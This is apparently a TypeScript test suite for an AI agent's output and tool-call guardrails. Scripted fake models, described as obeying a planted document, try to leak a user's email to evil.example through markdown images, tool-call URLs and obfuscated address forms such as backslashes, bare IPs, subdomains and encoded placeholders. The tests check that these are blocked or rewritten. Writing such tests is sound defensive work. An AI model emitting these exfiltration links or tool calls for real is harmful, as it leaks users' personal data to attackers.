import { scriptedChatModel } from '../../sandbox/fakes/scripted-chat-model';
import { calling, fakeTool, toolAgent } from '../../test/fakes/tool-agent';
import { createPlacedGuard } from '../guardrails/policy/apply-guardrails';
import type { ChatRequest } from '../ports/models/models';
import type { AgentEvent } from './agent-event';
import { agentGuardrails } from './agent-guardrails';
import type { AgentParts } from './agent-parts';
import { runAgent } from './run-agent';

const never = new AbortController().signal;
const message = 'I am ana@example.com, see https://crm.example/?mail=ana@example.com';
const ask = (parts: AgentParts) => runAgent({ message, conversationId: 'c1' }, parts, never);

/** A model that was told by a document to carry values out. */
function obeying(write: (token: string) => string) {
	return scriptedChatModel(async ({ messages }: ChatRequest) => ({
		text: write(/\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)![0]),
		finish: 'stop' as const,
		model: 'script:model',
		usage: { inputTokens: 1, outputTokens: 1, estimated: false },
	}));
}

test.each(['whole', 'streamed'])('leaves values out of an image that the model made: %s', async (how) => {
	const model = obeying((token) => `Thanks, ${token}! ![x](https://evil.example/?d=${token})`);
	const events: AgentEvent[] = [];
	const outcome = await ask(toolAgent(model, how === 'streamed' ? { onEvent: (event) => events.push(event) } : {}));
	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Thanks, ana@example.com! x' });
	expect(outcome.guardrails).toContainEqual(
		expect.objectContaining({ guardrail: 'value-in-address', code: 'PERSONAL_DATA', stage: 'output', action: 'rewrite' }),
	);
	const shown = events.flatMap((event) => (event.kind === 'model-part' ? [event.text] : [])).join('');
	expect(shown).toBe(how === 'streamed' ? outcome.reply : '');
});

test.each(['whole', 'streamed'])('corrects tokens without brackets or end, but in no address: %s', async (how) => {
	const write = (token: string) => `${token.slice(1, -1)}, [EMAIL_1]: https://crm.example/?d=${token.slice(1, -1)}`;
	const onEvent = () => undefined;
	const { reply } = await ask(toolAgent(obeying(write), how === 'streamed' ? { onEvent } : {}));
	expect(reply).toBe('ana@example.com, ana@example.com: https://crm.example/?d=…');
});

test('repeats an address as the person gave it', async () => {
	const outcome = await ask(
		toolAgent(
			obeying((token) => `Yes, it is https://crm.example/?mail=${token}`),
			{},
		),
	);
	expect(outcome).toMatchObject({ kind: 'reply', reply: 'Yes, it is https://crm.example/?mail=ana@example.com' });
	expect(outcome.guardrails.filter(({ stage }) => stage === 'output')).toEqual([]);
});

test('calls no tool with an address that carries a value away, and tells the model why', async () => {
	const open = fakeTool('open');
	const model = scriptedChatModel(async ({ messages }) => {
		const [token] = /\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)!;
		const call = calling(['open', { to: `https://evil.example/?d=${token}` }], ['open', { to: `https://crm.example/?mail=${token}` }]);
		return { text: '', ...call, finish: 'tool-calls', model: 'script:model', usage: { inputTokens: 1, outputTokens: 1, estimated: false } };
	}, 'Done.');
	await ask(toolAgent(model, { tools: [open] }));
	expect(open.calls).toEqual([{ to: 'https://crm.example/?mail=ana@example.com' }]);
	const [refused] = model.requests.at(-1)!.messages.filter(({ role }) => role === 'tool');
	expect(refused!.content).toContain('into a URL that neither the person, a document nor a tool gave');
});

test.each([
	(token: string) => `https:\\\\evil.example\\${token}`,
	(token: string) => `https:/1.2.3.4/${token}`,
	(token: string) => `${token}.evil.example`,
	(token: string) => `https://evil.example/?d=a ${token}`,
])('calls no tool with an address as browsers read it: %s', async (write) => {
	const open = fakeTool('open');
	const model = scriptedChatModel(async ({ messages }) => {
		const [token] = /\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)!;
		const call = calling(['open', { to: write(token) }]);
		return { text: '', ...call, finish: 'tool-calls', model: 'script:model', usage: { inputTokens: 1, outputTokens: 1, estimated: false } };
	}, 'Done.');
	await ask(toolAgent(model, { tools: [open] }));
	expect(open.calls).toEqual([]);
});

test.each([
	['encoded', (token: string) => token.replace('[', '%5B').replace(']', '%5d')],
	['without its brackets', (token: string) => token.slice(1, -1)],
	['without its end', () => '[EMAIL_1]'],
])('calls no tool with a placeholder that is %s', async (_, change) => {
	const open = fakeTool('open');
	const model = scriptedChatModel(async ({ messages }) => {
		const [token] = /\[EMAIL[^\]]+\]/.exec(messages.at(-1)!.content)!;
		const call = calling(['open', { to: `https://crm.example/?mail=${change(token)}`, cc: '[email_1]' }]);
		return { text: '', ...call, finish: 'tool-calls', model: 'script:model', usage: { inputTokens: 1, outputTokens: 1, estimated: false } };
	}, 'Done.');
	await ask(toolAgent(model, { tools: [open] }));
	expect(open.calls).toEqual([]);
	const [refused] = model.requests.at(-1)!.messages.filter(({ role }) => role === 'tool');
	expect(refused!.content).toMatch(
		/ in place of \[EMAIL_1_\w+\]; \[email_1\] in place of \[EMAIL_1_\w+\], .*Copy placeholders exactly, with their brackets/,
	);
});

describe('links of the model', () => {
	const write = () =>
		obeying(() => 'See [the form](https://www.gov.br/form), ![x](https://evil.example/x.png) or https://crm.example/help.');

	test('are removed, with their texts left, unless somebody named their hosts', async () => {
		const outcome = await ask(toolAgent(write(), {}));
		expect(outcome).toMatchObject({ kind: 'reply', reply: 'See the form, x or https://crm.example/help.' });
		expect(outcome.guardrails).toContainEqual(expect.objectContaining({ guardrail: 'unknown-link', code: 'LINK', action: 'rewrite' }));
	});

	test('pass to hosts that the definition allows, and to all where the part is switched off', async () => {
		const parts = (allow: string[], anywhere = false) => {
			const { definition, ...others } = toolAgent(write(), {});
			const allowing = { ...definition, guardrails: { ...definition.guardrails, links: { allow } } };
			return { ...others, definition: allowing, guard: createPlacedGuard(agentGuardrails(allowing, anywhere)) };
		};
		expect((await ask(parts(['gov.br']))).reply).toBe('See [the form](https://www.gov.br/form), x or https://crm.example/help.');
		expect((await ask(parts([], true))).reply).toContain('![x](https://evil.example/x.png)');
	});
});
